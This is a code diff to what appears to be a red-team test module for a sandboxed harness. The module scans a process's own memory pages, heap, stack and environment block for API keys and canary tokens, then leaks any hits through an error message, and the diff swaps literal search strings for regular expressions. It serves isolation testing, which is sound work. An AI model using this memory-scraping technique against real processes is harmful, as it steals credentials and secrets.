@@ -4,14 +4,15 @@ Attack (own): the strategy process is a fork of the worker; if the worker ever h
 keys (a forked orchestrator would), they are in this process's memory. It finds mapped pages
 (``write(pipe, addr, 1)`` answers EFAULT for unmapped ones, so probing never crashes)
 around the heap, the numpy buffers, the stack and the C ``environ`` block, views them as numpy
-bytes with ``as_strided`` and searches for ``canary-``, ``sk-canary``, ``OPENAI_API_KEY`` and
-``SECRET_TOKEN``. Hits go first in the error.
+bytes with ``as_strided`` and searches for what the secrets look like (a ``canary-`` token,
+``OPENAI_API_KEY=...``, ``..._SECRET_TOKEN=...``). Hits go first in the error.
 Stopped by: the scrubbed environment of the clean worker (the secrets never were in this
 process). ``as_strided`` itself works: reading one's own memory is not a boundary crossing.
 """
 
 import ctypes
 import os
+import re
 
 import numpy as np
 from numpy.lib.stride_tricks import as_strided
@@ -19,7 +20,7 @@ from numpy.lib.stride_tricks import as_strided
 PARAMETERS = {}
 
 PAGE = 4096
-NEEDLES = [b"canary-", b"sk-canary", b"OPENAI_API_KEY", b"SECRET_TOKEN"]
+NEEDLES = [re.compile(rb"canary-[0-9a-f]{12}"), re.compile(rb"(OPENAI_API_KEY|SECRET_TOKEN)=\w")]
 WINDOW = 48 << 20
 
 
@@ -42,9 +43,9 @@ def _scan(libc, fd, center, hits):
             base = np.frombuffer((ctypes.c_char * 1).from_address(run_start), np.uint8)
             view = as_strided(base, shape=(end - run_start,), strides=(1,)).tobytes()
             for needle in NEEDLES:
-                i = view.find(needle)
-                if i >= 0:
-                    hits.append(view[max(0, i - 20) : i + 60])
+                m = needle.search(view)
+                if m:
+                    hits.append(view[max(0, m.start() - 20) : m.start() + 60])
             run_start = None
         addr += PAGE
 
